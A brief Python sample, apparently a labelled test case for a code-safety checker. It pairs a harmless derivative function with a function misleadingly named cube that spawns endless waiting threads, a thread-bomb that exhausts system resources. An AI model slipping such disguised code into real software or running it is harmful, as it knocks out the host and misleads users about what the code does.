# tries: starts threads without an end
# deserves: 2 blocked
def mean_slope(f, x, h=0.5):
    return (f(x + h) - f(x - h)) / (2 * h)


import threading
def cube(x):
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
